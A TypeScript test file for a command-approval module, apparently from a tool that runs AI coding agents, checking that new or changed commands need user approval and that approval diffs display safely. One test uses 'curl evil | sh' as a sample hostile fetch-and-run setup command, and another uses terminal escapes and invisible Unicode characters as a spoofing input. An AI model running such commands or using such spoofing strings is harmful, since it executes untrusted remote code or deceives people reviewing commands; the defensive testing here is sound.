import { describe, expect, test } from 'vitest';
import { approve, countNew, formatDifference, judge, nothingApproved } from '../../../src/trust/approve.ts';
import type { Value, ValueKind } from '../../../src/trust/values.ts';
import { taskName } from '../../support/trust.ts';

function value(task: string | null, kind: ValueKind, text: string): Value {
  return { task: task === null ? null : taskName(task), kind, value: text };
}

const first = [
  value(null, 'env_pass', 'AWS_*'),
  value('a', 'command', 'claude <prompt>'),
  value('a', 'setup', 'npm ci'),
  value('b', 'command', 'codex <prompt>'),
];
const approved = approve(nothingApproved, first);

describe('judge', () => {
  test('nothing is approved at first, all after approving', () => {
    expect(judge(first, nothingApproved)).toEqual({ approvedTasks: new Set(), unapproved: first });
    expect(judge(first, approved)).toEqual({ approvedTasks: new Set(['a', 'b']), unapproved: [] });
  });

  test('a new value holds back its task only', () => {
    const changed = value('a', 'setup', 'curl evil | sh');
    expect(judge([...first, changed], approved)).toEqual({
      approvedTasks: new Set(['b']),
      unapproved: [changed],
    });
  });

  test("a new value of the project's holds back all", () => {
    const changed = value(null, 'socket', '/tmp/s');
    expect(judge([...first, changed], approved)).toEqual({ approvedTasks: new Set(), unapproved: [changed] });
  });

  test('a new notifier holds back itself, and no task', () => {
    const changed = value(null, 'notify', 'notify-send {task}');
    const { approvedTasks, unapproved } = judge([...first, changed], approved);
    expect([[...approvedTasks], unapproved]).toEqual([['a', 'b'], [changed]]);
  });

  test('a new task made of approved values needs none', () => {
    const values = [...first, value('c', 'command', 'codex <prompt>'), value('c', 'setup', 'npm ci')];
    expect(judge(values, approved).approvedTasks).toEqual(new Set(['a', 'b', 'c']));
  });

  test('an approved text counts for its own kind only', () => {
    expect(judge([value('a', 'panes', 'npm ci')], approved).unapproved).toHaveLength(1);
  });
});

test('approvals only grow', () => {
  const later = approve(approved, [value('a', 'command', 'x')]);
  expect(judge([...first, value('a', 'command', 'x')], later).unapproved).toEqual([]);
});

describe('formatDifference', () => {
  test('is empty when all is approved', () => {
    expect(formatDifference(first, approved)).toBe('');
  });

  test('shows all at first, tasks with the same value together', () => {
    const values = [...first, value('b', 'setup', 'npm ci')];
    expect(countNew(values, nothingApproved)).toBe(4);
    expect(formatDifference(values, nothingApproved)).toBe(`The project
  env_pass
    + AWS_*

Task a
  command
    + claude <prompt>

Tasks a, b
  setup
    + npm ci

Task b
  command
    + codex <prompt>

This does not cover the contents of scripts that these commands run.
`);
  });

  test('shows what a new value replaces, and no value that is still there', () => {
    const before = approve(nothingApproved, [
      ...first,
      value('a', 'setup', 'make'),
      value('b', 'setup', 'make'),
    ]);
    const values = [...first, value('a', 'setup', 'make all')];
    expect(countNew(values, before)).toBe(1);
    expect(formatDifference(values, before)).toBe(`Task a
  setup
    - make
    + make all

This does not cover the contents of scripts that these commands run.
`);
  });

  test('shows only what the last approval had as gone', () => {
    const second = approve(approved, [value('a', 'command', 'two')]);
    expect(formatDifference([value('a', 'command', 'three')], second)).toContain(
      'command\n    - two\n    + three\n\nThis does not',
    );
  });

  test('further lines and invisible characters can not pass for something else', () => {
    const nasty = 'one\n    + harmless\r\x1b[2K\u202Etxt\u200B';
    expect(formatDifference([value('a', 'setup', nasty)], nothingApproved)).toContain(
      '    + one\n    +       + harmless\\r\\e[2K\\u{202e}txt\\u{200b}\n',
    );
  });

  test('names at most six tasks', () => {
    const tasks = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((name) => value(name, 'setup', 'x'));
    expect(formatDifference(tasks.slice(0, 6), nothingApproved)).toContain('Tasks a, b, c, d, e, f\n');
    expect(formatDifference(tasks, nothingApproved)).toContain('Tasks a, b, c, d, e, 2 more\n');
  });
});
